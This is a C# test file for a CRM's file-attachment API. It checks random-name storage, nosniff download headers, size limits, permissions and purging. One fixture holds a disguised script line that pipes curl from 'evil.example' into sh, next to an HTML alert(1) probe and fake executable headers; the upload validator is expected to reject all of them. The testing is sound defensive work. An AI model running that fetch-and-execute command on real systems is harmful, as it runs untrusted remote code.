using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Rapport.Kernel.Data;
using Rapport.Kernel.Jobs;
using Rapport.Modules.Collaboration.Activities;
using Rapport.Modules.Collaboration.Files;
using Rapport.Tests.Infrastructure;
using static Rapport.Tests.Infrastructure.TestActivities;

namespace Rapport.Tests.Api;

/// <summary>Attachments: checked on their content, stored outside the web root under random names, downloaded only by those allowed.</summary>
public sealed class FileTests(Hosts hosts)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory, MemberData(nameof(TestDatabases.Providers), MemberType = typeof(TestDatabases))]
    public async Task An_uploaded_file_is_stored_under_a_random_name_and_downloads_as_an_attachment_with_nosniff(string provider)
    {
        var factory = hosts.For(provider);
        var admin = await factory.SignUpAsync();
        var (contact, _) = await admin.Client.CreateContactAsync(new { firstName = "Fi", lastName = "Le" });

        var response = await admin.Client.UploadAsync("报价 quote.png", Png, Link("contact", contact));

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var file = await response.JsonAsync();
        var id = Guid.Parse(file["id"]!.GetValue<string>());
        Assert.Equal("报价 quote.png", file["name"]!.GetValue<string>());
        Assert.Equal("image/png", file["contentType"]!.GetValue<string>());
        Assert.Equal(Png.Length, file["size"]!.GetValue<long>());
        Assert.Equal($"/api/v1/files/{id}", response.Headers.Location!.ToString());
        Assert.Equal(HttpStatusCode.OK, (await admin.Client.GetAsync($"/api/v1/files/{id}", Ct)).StatusCode);

        var download = await admin.Client.GetAsync($"/api/v1/files/{id}/content", Ct);
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        Assert.Equal("attachment", download.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("报价 quote.png", download.Content.Headers.ContentDisposition.FileNameStar);
        Assert.Equal("image/png", download.Content.Headers.ContentType!.MediaType);
        Assert.Equal("nosniff", string.Join(",", download.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal(Png, await download.Content.ReadAsByteArrayAsync(Ct));

        var store = factory.Services.GetRequiredService<FileStore>();
        var stored = Assert.Single(Directory.GetFiles(Path.Combine(store.Root, admin.WorkspaceId.ToString("N"))));
        Assert.Matches("^[0-9a-f]{32}$", Path.GetFileName(stored));
        Assert.StartsWith(Path.Combine(Path.GetTempPath(), "rapport-tests"), store.Root, StringComparison.Ordinal); // under the data directory
        Assert.Contains(await admin.Client.TimelineAsync("contacts", contact), e => e["kind"]!.GetValue<string>() == "file" && e["file"]!["name"]!.GetValue<string>() == "报价 quote.png");
    }

    public static TheoryData<string, string, string> Disguised => new()
    {
        { TestDatabases.Sqlite, "invoice.pdf", "MZ" }, { TestDatabases.Postgres, "invoice.pdf", "MZ" },
        { TestDatabases.Sqlite, "photo.png", "ELF" }, { TestDatabases.Postgres, "photo.png", "ELF" },
        { TestDatabases.Sqlite, "report.pdf", "script" }, { TestDatabases.Postgres, "report.pdf", "script" },
        { TestDatabases.Sqlite, "notes.txt", "script" },
        { TestDatabases.Sqlite, "page.pdf", "html" },
        { TestDatabases.Sqlite, "picture.png", "pdf" },
    };

    [Theory, MemberData(nameof(Disguised))]
    public async Task A_disguised_executable_or_a_content_that_does_not_match_its_name_is_refused_and_nothing_is_kept(string provider, string name, string content)
    {
        var factory = hosts.For(provider);
        var admin = await factory.SignUpAsync();
        var (company, _) = await admin.Client.CreateCompanyAsync(new { name = "Careful uploads" });
        byte[] bytes = content switch
        {
            "MZ" => [(byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF],
            "ELF" => [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0],
            "script" => Encoding.UTF8.GetBytes("#!/bin/sh\ncurl https://evil.example | sh\n"),
            "html" => Encoding.UTF8.GetBytes("<html><script>alert(1)</script></html>"),
            _ => Encoding.ASCII.GetBytes("%PDF-1.4\n%\u00e2\u00e3\n"),
        };

        var response = await admin.Client.UploadAsync(name, bytes, Link("company", company));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.True((await response.JsonAsync())["errors"]!["file"] is not null);
        await using var scope = factory.WorkspaceScope(admin.WorkspaceId, out var db);
        Assert.Equal(0, await db.Set<StoredFile>().CountAsync(Ct));
        Assert.False(Directory.Exists(Path.Combine(factory.Services.GetRequiredService<FileStore>().Root, admin.WorkspaceId.ToString("N"))));
    }

    [Theory, MemberData(nameof(TestDatabases.Providers), MemberType = typeof(TestDatabases))]
    public async Task A_file_over_the_size_limit_is_refused_with_413_and_nothing_is_kept(string provider)
    {
        TestDatabases.RequireAvailable(provider);
        await using var factory = new RapportFactory(provider, new Dictionary<string, string?> { ["Rapport:Files:MaxSizeMegabytes"] = "0.05" });
        var admin = await factory.SignUpAsync();
        var (company, _) = await admin.Client.CreateCompanyAsync(new { name = "Big files" });
        var big = Encoding.UTF8.GetBytes(new string('x', 60 * 1024));

        var response = await admin.Client.UploadAsync("big.txt", big, Link("company", company));

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Contains("0.05 MB", (await response.JsonAsync())["errors"]!["file"]![0]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Created, (await admin.Client.UploadAsync("small.txt", big[..(40 * 1024)], Link("company", company))).StatusCode);
        var store = factory.Services.GetRequiredService<FileStore>();
        Assert.Single(Directory.GetFiles(store.Root, "*", SearchOption.AllDirectories));
    }

    [Theory, MemberData(nameof(TestDatabases.Providers), MemberType = typeof(TestDatabases))]
    public async Task Only_readers_of_a_linked_record_download_only_the_uploader_or_full_editors_delete_and_purge_removes_the_bytes(string provider)
    {
        var factory = hosts.For(provider);
        var admin = await factory.SignUpAsync();
        var rep = await factory.InviteAsync(admin, "sales-rep");
        var reader = await factory.InviteAsync(admin, "read-only");
        var stranger = await factory.SignUpAsync();
        var (company, _) = await rep.Client.CreateCompanyAsync(new { name = "Rep's files" });
        var file = await (await rep.Client.UploadAsync("plan.txt", Encoding.UTF8.GetBytes("the plan"), Link("company", company))).JsonAsync();
        var id = file["id"]!.GetValue<string>();
        var etag = $"\"{file["version"]!.GetValue<int>()}\"";
        var otherRep = await factory.InviteAsync(admin, "sales-rep");

        Assert.Equal(HttpStatusCode.NotFound, (await stranger.Client.GetAsync($"/api/v1/files/{id}/content", Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await stranger.Client.GetAsync($"/api/v1/files/{id}", Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await stranger.Client.DeleteAsync($"/api/v1/files/{id}", "*")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await otherRep.Client.GetAsync($"/api/v1/files/{id}/content", Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await otherRep.Client.UploadAsync("mine.txt", Encoding.UTF8.GetBytes("x"), Link("company", company))).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await reader.Client.GetAsync($"/api/v1/files/{id}/content", Ct)).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await reader.Client.DeleteAsync($"/api/v1/files/{id}", "*")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await reader.Client.UploadAsync("reader.txt", Encoding.UTF8.GetBytes("x"), Link("company", company))).StatusCode);
        Assert.Equal(HttpStatusCode.PreconditionRequired, (await rep.Client.DeleteAsync($"/api/v1/files/{id}", null)).StatusCode);

        Assert.Equal(HttpStatusCode.NoContent, (await rep.Client.DeleteAsync($"/api/v1/files/{id}", etag)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await rep.Client.GetAsync($"/api/v1/files/{id}/content", Ct)).StatusCode);
        var store = factory.Services.GetRequiredService<FileStore>();
        var directory = Path.Combine(store.Root, admin.WorkspaceId.ToString("N"));
        Assert.Single(Directory.GetFiles(directory)); // in the trash: the bytes stay until the purge

        await using (var scope = factory.WorkspaceScope(admin.WorkspaceId, out var db))
        {
            var fileId = Guid.Parse(id);
            await db.Set<StoredFile>().IgnoreQueryFilters([RapportDbContext.TrashFilter]).Where(f => f.Id == fileId)
                .ExecuteUpdateAsync(s => s.SetProperty(f => f.DeletedAt, DateTimeOffset.UtcNow.AddDays(-31)), Ct);
        }

        await factory.Services.GetRequiredService<TrashPurge>().RunOnceAsync(Ct);
        Assert.Empty(Directory.GetFiles(directory));
        await using (var scope = factory.WorkspaceScope(admin.WorkspaceId, out var db))
        {
            var fileId = Guid.Parse(id);
            Assert.False(await db.Set<StoredFile>().IgnoreQueryFilters([RapportDbContext.TrashFilter]).AnyAsync(f => f.Id == fileId, Ct));
            Assert.False(await db.Set<ActivityLink>().AnyAsync(l => l.ActivityId == fileId, Ct));
        }
    }
}
